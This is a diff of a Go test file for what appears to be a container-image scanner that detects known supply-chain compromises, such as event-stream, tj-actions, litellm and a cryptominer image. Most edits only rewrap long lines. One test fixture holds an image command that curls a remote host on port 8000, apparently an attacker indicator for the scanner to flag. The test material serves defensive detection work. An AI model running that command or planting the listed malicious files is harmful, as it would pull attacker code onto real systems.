@@ -61,11 +61,13 @@ func TestKnownReleases(t *testing.T) {
 		{"pkg:golang/github.com/boltdb-go/bolt@v1.3.1", "v1.3.1", "boltdb-go-2025-02"},
 		{"pkg:golang/github.com/boltdb/bolt@v1.3.1", "v1.3.1", ""},
 	} {
-		rows := rowsOf(t, inspect.Image{Packages: []inspect.Package{{Name: "x", Version: test.version, PURL: test.purl}}})
+		rows := rowsOf(t, inspect.Image{Packages: []inspect.Package{{Name: "x", Version: test.version,
+			PURL: test.purl}}})
 		switch {
 		case test.want == "" && len(rows) > 0:
 			t.Errorf("%s: %s", test.purl, rows[0].ID)
-		case test.want != "" && (len(rows) != 1 || rows[0].ID != test.want || rows[0].Severity.Rank() > inspect.High.Rank()):
+		case test.want != "" && (len(rows) != 1 || rows[0].ID != test.want ||
+			rows[0].Severity.Rank() > inspect.High.Rank()):
 			t.Errorf("%s: %+v", test.purl, rows)
 		}
 	}
@@ -81,9 +83,11 @@ func TestImages(t *testing.T) {
 		id       string
 		severity inspect.Severity
 	}{
-		"digest": {inspect.Image{ImageHead: inspect.ImageHead{Index: kicsIndex, Reference: "mirror.example/scan:1"}}, "kics-2026-04", inspect.Critical},
+		"digest": {inspect.Image{ImageHead: inspect.ImageHead{Index: kicsIndex, Reference: "mirror.example/scan:1"}},
+			"kics-2026-04", inspect.Critical},
 		"reference in the window": {
-			inspect.Image{ImageHead: inspect.ImageHead{Reference: "kong/kubernetes-ingress-controller:3.4.0", Created: inWindow}}, "kong-kic-2024-12", inspect.Critical,
+			inspect.Image{ImageHead: inspect.ImageHead{Reference: "kong/kubernetes-ingress-controller:3.4.0",
+				Created: inWindow}}, "kong-kic-2024-12", inspect.Critical,
 		},
 		"reference of a mirror": {
 			inspect.Image{ImageHead: inspect.ImageHead{Reference: "mirror.gcr.io/kong/kubernetes-ingress-controller:3.4.0", Created: inWindow}}, "kong-kic-2024-12", inspect.Critical,
@@ -91,26 +95,32 @@ func TestImages(t *testing.T) {
 		"reference out of the window": {inspect.Image{ImageHead: inspect.ImageHead{Reference: "kong/kubernetes-ingress-controller:3.4.0"}}, "kong-kic-2024-12", inspect.Low},
 		"repository":                  {inspect.Image{ImageHead: inspect.ImageHead{Reference: "docker.io/pauseyyf/pause:3.9"}}, "dero-miners-2023", inspect.Critical},
 		"material": {
-			inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "pkg:docker/x", Digest: kicsIndex}}}}}, "kics-2026-04", inspect.Critical,
+			inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "pkg:docker/x",
+				Digest: kicsIndex}}}}}, "kics-2026-04", inspect.Critical,
 		},
 		"commit of an action": {
 			inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "git+https://github.com/tj-actions/changed-files", Digest: "sha1:0e58ed8671d6b60d0890c21b07f8835ace038e67"}}}}},
 			"tj-actions-2025-03", inspect.High,
 		},
 		"host in a command": {
-			inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Cmd: []string{"sh", "-c", "curl https://sfrclak.com:8000/x"}}}}, "axios-2026-03", inspect.Critical,
+			inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Cmd: []string{"sh", "-c",
+				"curl https://sfrclak.com:8000/x"}}}}, "axios-2026-03", inspect.Critical,
 		},
 		"window": {
-			inspect.Image{ImageHead: inspect.ImageHead{Created: inspect.At(time.Date(2026, 3, 24, 12, 0, 0, 0, time.UTC))}, Packages: []inspect.Package{{Name: "litellm", Version: "1.82.6", PURL: "pkg:pypi/litellm@1.82.6"}}},
+			inspect.Image{ImageHead: inspect.ImageHead{Created: inspect.At(time.Date(2026, 3, 24, 12, 0, 0, 0,
+				time.UTC))}, Packages: []inspect.Package{{Name: "litellm", Version: "1.82.6",
+				PURL: "pkg:pypi/litellm@1.82.6"}}},
 			"litellm-2026-03", inspect.Low,
 		},
 	} {
 		rows := rowsOf(t, test.image)
-		if len(rows) == 0 || rows[0].ID != test.id || rows[0].Severity != test.severity || rows[len(rows)-1].ID != test.id {
+		if len(rows) == 0 || rows[0].ID != test.id || rows[0].Severity != test.severity ||
+			rows[len(rows)-1].ID != test.id {
 			t.Errorf("%s: %+v", what, rows)
 		}
 	}
-	for _, calm := range []string{"kong/kubernetes-ingress-controller:3.4.1", "aquasec/trivy:0.69.3", "registry.k8s.io/pause:3.9", "oci:/tmp/x", "/tmp/a.tar", ""} {
+	for _, calm := range []string{"kong/kubernetes-ingress-controller:3.4.1", "aquasec/trivy:0.69.3",
+		"registry.k8s.io/pause:3.9", "oci:/tmp/x", "/tmp/a.tar", ""} {
 		if rows := rowsOf(t, inspect.Image{ImageHead: inspect.ImageHead{Reference: calm}}); len(rows) > 0 {
 			t.Errorf("%s: %+v", calm, rows)
 		}
@@ -130,7 +140,8 @@ func TestParseWindow(t *testing.T) {
 		return inspect.At(v)
 	}
 	for stamp, want := range map[string]bool{
-		"2026-03-23T23:59:59Z": false, "2026-03-24T00:00:00Z": true, "2026-03-25T23:59:59Z": true, "2026-03-26T00:00:00Z": false,
+		"2026-03-23T23:59:59Z": false, "2026-03-24T00:00:00Z": true, "2026-03-25T23:59:59Z": true,
+		"2026-03-26T00:00:00Z": false,
 	} {
 		if w.Holds(at(stamp)) != want {
 			t.Errorf("%s: %v", stamp, !want)
@@ -139,7 +150,8 @@ func TestParseWindow(t *testing.T) {
 	if w.Holds(inspect.Time{}) {
 		t.Error("an unknown time is in the window")
 	}
-	if open, err := ParseWindow("2026-03-24T10:00:00Z,"); err != nil || !open.Holds(at("2030-01-01T00:00:00Z")) || open.Holds(at("2026-03-24T09:00:00Z")) {
+	if open, err := ParseWindow("2026-03-24T10:00:00Z,"); err != nil || !open.Holds(at("2030-01-01T00:00:00Z")) ||
+		open.Holds(at("2026-03-24T09:00:00Z")) {
 		t.Errorf("an open window: %v, %v", open, err)
 	}
 	for _, bad := range []string{"", ",", "2026", "soon,later", "2026-03-25,2026-03-24"} {
@@ -147,9 +159,11 @@ func TestParseWindow(t *testing.T) {
 			t.Errorf("%q: no error", bad)
 		}
 	}
-	m := newMatches(newIndex(nil, nil), inspect.Image{Layers: []inspect.Layer{{Number: 2, Created: at("2026-03-24T09:00:00Z")}}})
+	m := newMatches(newIndex(nil, nil), inspect.Image{Layers: []inspect.Layer{{Number: 2,
+		Created: at("2026-03-24T09:00:00Z")}}})
 	m.window = w
-	if m.windows(); len(m.rows) != 1 || m.rows[0].Source != SourceFlag || !strings.Contains(m.rows[0].Subject, "layer 2") {
+	if m.windows(); len(m.rows) != 1 || m.rows[0].Source != SourceFlag || !strings.Contains(m.rows[0].Subject,
+		"layer 2") {
 		t.Errorf("%+v", m.rows)
 	}
 }
@@ -162,18 +176,21 @@ func TestCheck(t *testing.T) {
 	layertest.Must(t, err)
 	cache := layer.NewCache(store)
 	modules := func(name, version string) []layertest.Member {
-		return []layertest.Member{layertest.File("app/node_modules/"+name+"/package.json", `{"name":"`+name+`","version":"`+version+`"}`)}
+		return []layertest.Member{layertest.File("app/node_modules/"+name+"/package.json",
+			`{"name":"`+name+`","version":"`+version+`"}`)}
 	}
 	bad := append(modules("event-stream", "3.3.6"), layertest.File(layertest.Site+"litellm_init.pth", "import os\n"))
 	bad = append(bad, modules("chalk", "5.6.0")...)
-	c := layertest.Run(t, client, layertest.Image(t, v1.Config{}, layertest.Step("npm ci", bad...)), nil, []engine.Check{
-		layer.Layers(client, cache), sbom.Packages(sbom.NewCataloguer(cache)), Advisories(NewData(t.TempDir()), cache),
-	})
+	c := layertest.Run(t, client, layertest.Image(t, v1.Config{}, layertest.Step("npm ci", bad...)), nil,
+		[]engine.Check{
+			layer.Layers(client, cache), sbom.Packages(sbom.NewCataloguer(cache)), Advisories(NewData(t.TempDir()), cache),
+		})
 	i := c.Images[0]
 	if len(i.Advisories) != 2 {
 		t.Fatalf("rows: %+v", i.Advisories)
 	}
-	if a := i.Advisories[0]; a.ID != "event-stream-2018-11" || a.Kind != inspect.AdvisoryPackage || a.Layer != 0 || a.Data.Digest == "" || a.Record == "" {
+	if a := i.Advisories[0]; a.ID != "event-stream-2018-11" || a.Kind != inspect.AdvisoryPackage || a.Layer != 0 ||
+		a.Data.Digest == "" || a.Record == "" {
 		t.Errorf("%+v", a)
 	}
 	if a := i.Advisories[1]; a.Kind != inspect.AdvisoryFile || a.Subject != "/"+layertest.Site+"litellm_init.pth" {
@@ -181,11 +198,12 @@ func TestCheck(t *testing.T) {
 	}
 	var text string
 	for _, f := range c.Findings {
-		if f.Code == CodeCompromise {
+		if f.Code == inspect.CodeKnownCompromise {
 			text += f.Subject + " " + f.Title + " " + f.Detail + "\n"
 		}
 	}
-	for _, want := range []string{"image:/app/node_modules/event-stream/package.json", "event-stream 3.3.6", "published 2018-11-26", "incident-pack", "not withdrawn", "litellm_init.pth"} {
+	for _, want := range []string{"image:/app/node_modules/event-stream/package.json", "event-stream 3.3.6",
+		"published 2018-11-26", "incident-pack", "not withdrawn", "litellm_init.pth"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("the findings do not name %q:\n%s", want, text)
 		}
@@ -224,7 +242,8 @@ func TestABareNameIsMedium(t *testing.T) {
 		"/app/node_modules/@example/react-router/my-router_init.js": "",
 	} {
 		m := newMatches(embeddedIndex(t), inspect.Image{})
-		m.file(&inspect.Node{Entry: inspect.Entry{Path: path, Type: inspect.EntryFile, SHA256: strings.Repeat("0", 64)}})
+		m.file(&inspect.Node{Entry: inspect.Entry{Path: path, Type: inspect.EntryFile, SHA256: strings.Repeat("0",
+			64)}})
 		var got inspect.Severity
 		for _, r := range m.rows {
 			got = r.Severity
